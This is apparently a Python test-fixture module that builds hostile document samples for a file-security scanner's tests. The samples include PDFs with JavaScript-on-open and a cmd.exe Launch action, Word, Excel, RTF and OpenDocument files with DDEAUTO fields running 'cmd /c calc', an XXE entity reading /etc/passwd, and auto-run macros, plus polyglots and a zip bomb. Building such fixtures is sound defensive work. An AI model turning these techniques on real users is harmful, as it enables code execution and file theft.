"""Hostile files for the guard's tests, written into a test's folder.

Each builder writes a small file that carries one trick as real tools make it: a PDF
with JavaScript on open and a Launch action (pikepdf), OOXML and OpenDocument
packages with external relationships, DDE fields and macro sheets, RTF fields and
linked objects, OLE2 ``.doc`` and ``.xls`` files, polyglots and ZIPs that declare far
more than they hold.
"""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pikepdf
from PIL import Image

from tests.unit.formats.compound_file import compound_file

#: The EICAR test string, put together here so that this source file does not hold it.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
#: An address nothing listens on: the tests only look at what the files name.
NOWHERE = "http://127.0.0.1:9"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def write_zip(path: Path, parts: dict[str, bytes | str], *, stored: tuple[str, ...] = ()) -> Path:
    """A ZIP of ``parts`` in order; the names in ``stored`` are not compressed."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            method = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=method)
    return path


def _relationships(*rels: tuple[str, str, str, bool]) -> str:
    items = "".join(
        f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rid, kind, target, external in rels
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{PKG}">{items}</Relationships>'


def write_docx(
    path: Path,
    body: str = "<w:p><w:r><w:t>Hello</w:t></w:r></w:p>",
    parts: dict[str, str] | None = None,
    *,
    prolog: str = "",
) -> Path:
    """A minimal Word document: ``body`` in ``word/document.xml`` (after ``prolog``,
    e.g. a DOCTYPE), plus ``parts``."""
    content_types = (
        f'<?xml version="1.0"?><Types xmlns="{CT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/></Types>'
    )
    document = (
        f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="{W}" xmlns:r="{R}">'
        f"<w:body>{body}</w:body></w:document>"
    )
    return write_zip(
        path,
        {
            "[Content_Types].xml": content_types,
            "_rels/.rels": _relationships(("rId1", "officeDocument", "word/document.xml", False)),
            "word/document.xml": document,
            **(parts or {}),
        },
    )


def docx_with_remote_template(path: Path) -> Path:
    """A Word document whose template is fetched from a URL when it opens."""
    settings = f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/>'
    settings += "</w:settings>"
    return write_docx(
        path,
        parts={
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": _relationships(
                ("rId1", "attachedTemplate", f"{NOWHERE}/template.dotm", True)
            ),
            "word/_rels/document.xml.rels": _relationships(
                ("rId2", "image", f"{NOWHERE}/tracker.png", True),
                ("rId3", "hyperlink", "https://example.com/", True),
                ("rId4", "settings", "settings.xml", False),
            ),
        },
        prolog='<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    )


def docx_with_fields(path: Path) -> Path:
    """A Word document with a DDEAUTO field split over runs and an INCLUDEPICTURE field."""
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    separate = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'

    def instr(text: str) -> str:
        return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'

    dde = instr("DDE") + instr("AUTO c:\\\\windows\\\\system32\\\\cmd.exe ")
    dde += instr("&quot;/k calc&quot;")
    body = (
        f"<w:p>{begin}{dde}{separate}<w:r><w:t>x</w:t></w:r>{end}</w:p>"
        f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;{NOWHERE}/p.png&quot; \\d">'
        "<w:r><w:t>pic</w:t></w:r></w:fldSimple></w:p>"
        f"<w:p>{begin}{instr(' PAGE ')}{separate}<w:r><w:t>1</w:t></w:r>{end}</w:p>"
    )
    return write_docx(path, body)


def xlsx_with_dde_and_macrosheet(path: Path) -> Path:
    """A workbook with a DDE link in an external link part and an Excel 4.0 macro sheet."""
    content_types = (
        f'<?xml version="1.0"?><Types xmlns="{CT}">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{XLSX_MAIN}"/>'
        '<Override PartName="/xl/hidden/m1.xml" '
        'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
    )
    return write_zip(
        path,
        {
            "[Content_Types].xml": content_types,
            "_rels/.rels": _relationships(("rId1", "officeDocument", "xl/workbook.xml", False)),
            "xl/workbook.xml": "<workbook/>",
            "xl/hidden/m1.xml": "<xm:macrosheet/>",
            "xl/externalLinks/externalLink1.xml": (
                '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
            ),
        },
    )


def odt_with_links_and_macros(path: Path) -> Path:
    """An OpenDocument text with a remote picture, a hyperlink, a DDE source, a Basic
    module and a script bound to the document's opening."""
    content = (
        '<?xml version="1.0"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>'
        f'<draw:frame><draw:image xlink:href="{NOWHERE}/remote.png" xlink:type="simple"/>'
        "</draw:frame>"
        '<draw:frame><draw:image xlink:href="Pictures/inside.png"/></draw:frame>'
        '<text:p><text:a xlink:href="https://example.com/">a link</text:a></text:p>'
        '<office:dde-source office:dde-application="soffice" office:dde-topic="x.ods"/>'
        '<office:event-listeners><script:event-listener script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>'
        "</office:event-listeners></office:text></office:body></office:document-content>"
    )
    return write_zip(
        path,
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "Basic/script-lc.xml": "<library:libraries/>",
            "Basic/Standard/script-lb.xml": "<library:library/>",
            "Basic/Standard/Module1.xml": '<script:module>Sub Main\nShell "calc"\nEnd Sub',
        },
        stored=("mimetype",),
    )


def write_rtf(path: Path) -> Path:
    """An RTF with an INCLUDEPICTURE field, a DDEAUTO field split over groups, an
    auto-updating linked object and a remote template."""
    rtf = (
        r"{\rtf1\ansi{\*\template " + NOWHERE + r"/t.dot}"
        r'{\field{\*\fldinst INCLUDEPICTURE "' + NOWHERE + r'/p.png" \\d}{\fldrslt pic}}'
        r'{\field{\*\fldinst {DDE}{AUTO c:\\\\windows\\\\cmd.exe "/c calc"}}}'
        r"{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 0105}}"
        r"}"
    )
    path.write_text(rtf, encoding="latin-1")
    return path


def _utf16(text: str) -> bytes:
    return text.encode("utf-16-le")


def write_doc(path: Path) -> Path:
    """A Word 97 file (OLE2) whose text has a DDEAUTO field (8-bit) and an INCLUDETEXT
    field (UTF-16), between the field characters Word uses."""
    text = (
        b'Intro \x13 DDEAUTO cmd "/c calc" \x14result\x15 more '
        + _utf16(f'\x13 INCLUDETEXT "{NOWHERE}/x.docx" \x14')
        + _utf16("text\x15")
    )
    path.write_bytes(compound_file({"WordDocument": b"\xec\xa5" + b"\x00" * 30 + text}))
    return path


def _record(kind: int, data: bytes) -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def write_xls(path: Path) -> Path:
    """An Excel 97 file (OLE2) whose workbook globals declare a very hidden Excel 4.0
    macro sheet and a DDE data source."""
    bof = _record(0x0809, struct.pack("<HH", 0x0600, 0x0005) + b"\x00" * 12)
    name = b"Auto_Open"
    sheet = _record(0x0085, struct.pack("<IBBBB", 0, 2, 0x01, len(name), 0) + name)
    dde = b"cmd\x03/c calc"
    supbook = _record(0x01AE, struct.pack("<HH", 0, len(dde)) + b"\x00" + dde)
    eof = _record(0x000A, b"")
    path.write_bytes(compound_file({"Workbook": bof + sheet + supbook + eof}))
    return path


def pdf_with_actions(path: Path) -> Path:
    """A PDF with JavaScript on open, a Launch action, a SubmitForm action, a GoToR
    action, two links and an embedded file."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )

    def annotation(action: pikepdf.Dictionary) -> pikepdf.Dictionary:
        return pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action
        )

    actions = [
        pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")),
        pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String(f"{NOWHERE}/form")),
        pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("other.pdf"), D=[0]),
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.com/a")),
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.com/b")),
    ]
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([annotation(a) for a in actions]))
    pdf.attachments["note.txt"] = pikepdf.AttachedFileSpec(pdf, b"attached", mime_type="text/plain")
    pdf.save(path)
    return path


def plain_pdf(path: Path) -> Path:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.save(path)
    return path


def appended_zip(path: Path, base: bytes, *, jar: bool = False) -> Path:
    """``base`` with a ZIP (a JAR when ``jar``) appended, as polyglots are made."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        if jar:
            zf.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: A\n")
            zf.writestr("A.class", b"\xca\xfe\xba\xbe")
        else:
            zf.writestr("hidden.txt", "hidden")
    path.write_bytes(base + archive.getvalue())
    return path


def jpeg_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, "JPEG")
    return out.getvalue()


def zip_of_zeros(path: Path, size: int) -> Path:
    """A ZIP holding ``size`` zero bytes, which deflate about a thousandfold."""
    chunk = b"\x00" * (1024 * 1024)
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("zeros.bin", "w") as member,
    ):
        for _ in range(size // len(chunk)):
            member.write(chunk)
    return path
